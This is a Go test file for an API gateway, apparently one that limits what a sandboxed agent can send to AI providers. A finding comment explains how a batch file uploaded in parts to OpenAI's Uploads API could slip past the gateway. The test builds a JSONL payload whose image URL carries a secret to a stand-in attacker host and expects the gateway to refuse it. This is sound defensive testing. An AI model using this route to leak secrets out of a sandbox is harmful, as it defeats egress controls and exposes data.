package gateway

import "testing"

// FINDING (medium, with the uploads and batch endpoints added): the
// JSON Lines of a batch input file are read only in a form whose own
// "purpose" part is "batch" (multipartReach), but OpenAI's Uploads API
// carries a batch file with no purpose in the form at all: POST
// /v1/uploads takes the purpose as JSON ({"purpose":"batch",
// "filename":"b.jsonl","mime_type":"application/jsonl","bytes":N}), each
// POST /v1/uploads/{id}/parts is a form with a single "data" part holding
// a chunk of the file's bytes, and POST /v1/uploads/{id}/complete makes
// it "a regular File object" usable by POST /v1/batches (openai-go v3
// upload.go UploadNewParams.Purpose "Any of ... batch ...", uploadpart.go
// UploadPartNewParams.Data, path "uploads/%s/parts"; docs
// developers.openai.com/api/reference/resources/uploads). A data part of
// two or more JSONL lines is not one JSON document and the form is not a
// "batch" form, so it passes unread; the batch then has OpenAI fetch the
// image URL (or run web_search) for the sandbox. Every request of the
// upload passes: the create and complete bodies name no URL.
func TestAttackProviderToolsBatchViaUploadsParts(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {
		"POST /v1/uploads", "POST /v1/uploads/*/parts", "POST /v1/uploads/*/complete", "POST /v1/batches"}}))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	lines := `{"custom_id":"a","method":"POST","url":"/v1/chat/completions","body":{"model":"gpt-4.1","messages":[{"role":"user","content":"hi"}]}}` + "\n" +
		`{"custom_id":"b","method":"POST","url":"/v1/chat/completions","body":{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.attacker.example/i.png?d=SECRET-1234"}}]}]}}` + "\n"
	// the upload's create names the purpose as JSON: forwarded (no URL in it).
	attackExpectForwarded(t, e, tok, "openai", "/v1/uploads",
		`{"purpose":"batch","filename":"b.jsonl","mime_type":"application/jsonl","bytes":400}`)
	mp := "--x\r\nContent-Disposition: form-data; name=\"data\"; filename=\"blob\"\r\nContent-Type: application/octet-stream\r\n\r\n" +
		lines + "\r\n--x--\r\n"
	attackExpectRefused(t, e, tok, "openai", "/v1/uploads/upload_abc123/parts", mp,
		map[string]string{"Content-Type": "multipart/form-data; boundary=x"})
}
